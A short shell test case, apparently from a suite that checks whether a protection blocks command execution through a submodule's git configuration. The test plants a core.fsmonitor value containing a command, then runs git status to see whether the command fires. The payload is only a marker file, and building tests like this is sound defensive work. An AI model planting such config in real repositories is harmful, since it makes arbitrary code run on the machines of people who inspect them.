# H1-submodule: a submodule's configuration, which a look at the repository around it reads
plant() {
	{
		export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@example.org GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@example.org
		git init -q "$H/library" && git -C "$H/library" commit -q --allow-empty -m x
		git init -q "$P" && git -C "$P" -c protocol.file.allow=always submodule add -q "$H/library" library
	} >/dev/null 2>&1
}
attack() {
	git -C library config core.fsmonitor 'touch ~/ran; false'
	mv .git/modules/library/config .git/modules/library/old
	printf '[core]\n\tworktree = ../../../library\n\tfsmonitor = touch ~/ran; false\n' >.git/modules/library/config
} >/dev/null 2>&1
escaped() {
	(cd "$P" && git status) >/dev/null 2>&1
	[ -e "$H/ran" ]
}
